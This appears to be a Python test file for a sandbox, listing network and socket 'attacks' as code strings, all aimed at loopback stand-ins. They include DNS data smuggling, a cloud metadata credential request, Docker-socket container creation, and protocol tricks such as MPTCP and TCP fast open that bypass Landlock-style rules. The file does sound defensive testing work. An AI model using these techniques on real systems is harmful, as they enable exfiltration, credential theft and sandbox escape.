"""Attacks over the network and over sockets; every address is a stand-in on loopback."""

from tests.hostile.attack import Attack, Effect

_SEND = "import socket\n\ndef attack(lure):\n{deed}\n    return 'sent'\n"
_DEEDS = {
    "TCP": (
        "send data to a server",
        "    socket.create_connection(('127.0.0.1', lure['tcp']), 1).send(b'x')",
    ),
    "TCP over IPv6": (
        "the same over IPv6",
        "    socket.create_connection(('::1', lure['tcp6']), 1).send(b'x')",
    ),
    "UDP": (
        "send a datagram",
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', lure['udp']))",
    ),
    "DNS": (
        "smuggle data in the name that a resolver is asked for",
        "    query = bytes.fromhex('1234010000010000000000000673656372657403636f6d0000010001')\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ('127.0.0.1', lure['udp']))",
    ),
    "metadata address": (
        "ask the metadata service for credentials",
        "    from urllib.request import ProxyHandler, build_opener\n"
        "    address = 'http://127.0.0.1:%d/latest/meta-data/iam/' % lure['tcp']\n"
        "    build_opener(ProxyHandler({})).open(address, timeout=0.3)",
    ),
    "fast open": (
        "connect by sending, which rules about connecting miss",
        "    s = socket.socket()\n    s.sendto(b'x', socket.MSG_FASTOPEN, ('127.0.0.1', lure['tcp']))",
    ),
    "MPTCP": (
        "connect by a protocol that Landlock doesn't hold",
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)\n    s.connect(('127.0.0.1', lure['tcp']))",
    ),
    "Docker socket": (
        "rule the machine through the engine's socket",
        "    s = socket.socket(socket.AF_UNIX)\n    s.connect(lure['docker'])\n    s.send(b'POST /containers/create')",
    ),
    "unix datagram": (
        "send to a socket of this machine",
        "    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'x', lure['datagram'])",
    ),
    "abstract socket": (
        "send to a socket that no file stands for",
        "    s = socket.socket(socket.AF_UNIX)\n    s.connect(chr(0) + lure['abstract'])\n    s.send(b'x')",
    ),
}

ATTACKS = (
    *(
        Attack(
            name,
            tries,
            Effect.RECEIVED,
            _SEND.format(deed=deed),
            missing={"MPTCP": "MPTCP", "TCP over IPv6": "IPv6", "fast open": "TCP fast open"}.get(name, ""),
        )
        for name, (tries, deed) in _DEEDS.items()
    ),
    Attack(
        "server",
        "listen for others",
        Effect.CLAIMED,
        """
import socket

def attack(lure):
    server = socket.create_server(("127.0.0.1", 0))
    return server.getsockname()[1] > 0
""",
    ),
    Attack(
        "raw packets",
        "see and forge packets",
        Effect.CLAIMED,
        """
import socket

def attack(lure):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return True
""",
    ),
    Attack(
        "netlink",
        "list and change the machine's network",
        Effect.CLAIMED,
        """
import socket

def attack(lure):
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    return True
""",
    ),
    Attack(
        "crypto socket",
        "reach seldom tested code of the kernel",
        Effect.CLAIMED,
        """
import socket

def attack(lure):
    socket.socket(38, socket.SOCK_SEQPACKET)
    return True
""",
        missing="AF_ALG",
    ),
    Attack(
        "socket pair",
        "have a socket at all, on which descriptors can travel",
        Effect.CLAIMED,
        """
import socket

def attack(lure):
    one, other = socket.socketpair()
    one.send(b"x")
    return other.recv(1) == b"x"
""",
    ),
)
